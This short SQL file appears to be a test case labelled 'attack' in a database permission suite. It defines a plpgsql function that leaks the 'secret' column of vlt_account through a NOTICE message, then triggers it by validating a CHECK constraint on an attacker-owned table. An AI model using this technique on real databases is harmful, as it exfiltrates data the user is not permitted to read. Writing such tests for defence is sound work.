-- Adds a check NOT VALID and validates it.
-- wants: read
-- attack:
CREATE FUNCTION tell(int) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM vlt_account WHERE id = $1); RETURN true; END$$;
ALTER TABLE mallory_own ADD CONSTRAINT told CHECK (tell(id)) NOT VALID;
ALTER TABLE mallory_own VALIDATE CONSTRAINT told;
